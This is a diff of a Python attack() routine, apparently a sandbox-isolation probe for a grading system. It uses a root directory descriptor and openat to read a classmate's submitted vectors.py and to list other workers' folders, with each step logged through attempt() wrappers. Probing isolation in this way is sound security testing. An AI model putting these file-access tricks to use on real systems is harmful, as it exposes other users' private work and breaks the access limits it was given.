@@ -8,11 +8,18 @@ def attack():
     if ok:
         attempt("list the submissions folder through its descriptor", lambda: os.listdir(subs_fd))
         os.close(subs_fd)
-    base = os.open("/", os.O_PATH)
-    victim_file = os.path.join(TARGETS["victim_dir"], "vectors.py").lstrip("/")
-    steal_module(f"openat(O_PATH '/', {victim_file!r}) (the classmate's file)", lambda: read_at(base, victim_file))
-    ok, parent = attempt("open '..' of the worker's directory (where the other workers' directories are)", lambda: open_dir(".."))
+    root = root_descriptor()
+    if root is not None:
+        ok, subs_fd = attempt("openat(root, <the submissions folder>) as a directory", lambda: open_dir(at_root(subs), root))
+        if ok:
+            attempt("list the submissions folder through that descriptor", lambda: os.listdir(subs_fd))
+        victim_file = at_root(os.path.join(TARGETS["victim_dir"], "vectors.py"))
+        steal_module(f"openat(root, {victim_file!r}) (the classmate's file)", lambda: read_at(root, victim_file))
+    if root is None:
+        return
+    workers = at_root(os.path.dirname(os.path.realpath(os.getcwd())))
+    ok, parent = attempt("openat(root, <the folder of the workers' folders>)", lambda: open_dir(workers, root))
     if ok:
-        found, names = attempt("list the other workers' directories", lambda: os.listdir(parent))
+        found, names = attempt("list the other workers' folders", lambda: os.listdir(parent))
         for name in (names or [])[:20]:
-            attempt(f"list ../{name}", lambda: os.listdir(os.path.join("..", name)), real=False)
+            attempt(f"list the worker folder {name}", lambda: os.listdir(open_dir(name, parent)), real=False)
